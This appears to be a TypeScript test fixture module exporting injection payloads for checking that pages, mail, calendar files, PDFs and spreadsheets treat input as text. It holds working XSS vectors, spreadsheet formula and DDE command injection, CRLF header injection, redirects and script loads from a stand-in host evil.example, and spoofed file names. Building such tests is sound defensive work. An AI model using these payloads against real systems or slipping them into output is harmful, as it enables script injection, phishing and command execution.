// Payloads that have an effect if a page, mail, file or spreadsheet does not treat them as text.

export const payloads = [
  // A spreadsheet formula has to be first in its cell.
  '=HYPERLINK("https://evil.example","x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<style>*{background:url(//evil.example)}</style>',
  '</title></textarea></script><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '` onerror=alert(1) `',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one.
  '${alert(1)}#{7*7}<%= 7*7 %>',
  '[x](javascript:alert(1)) ![x](//evil.example/p.png)',
  'Eve\r\nBcc: everybody@example.com',
  'Eve\r\n\r\n<html><body>Body</body></html>',
  'Eve%0d%0aSet-Cookie:%20a=b',
  'Eve\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil',
  'Eve\\nATTENDEE:mailto:x@example.com;,:"',
  'Eve"; RSVP=TRUE:mailto:x@example.com',
  ') Tj ET /JavaScript (app.alert(1)) (',
  '/URI (https://evil.example) >> endobj',
  '\u202egnp.exe\u2066\u200f',
  '\u200b\u2060\ufeff\u00ad',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x&#62;',
  'https://evil.example/login evil.example',
  '\ud83d\ude00\u0301\u0301 ﷺ 中文 é',
] as const;

/** Several payloads in one text, each once, spreadsheet formulas first: a third of the runs. */
export const texts: readonly string[] = payloads
  .slice(0, Math.ceil(payloads.length / 3))
  .map((_, index, firsts) => payloads.filter((_payload, place) => place % firsts.length === index).join(' '));
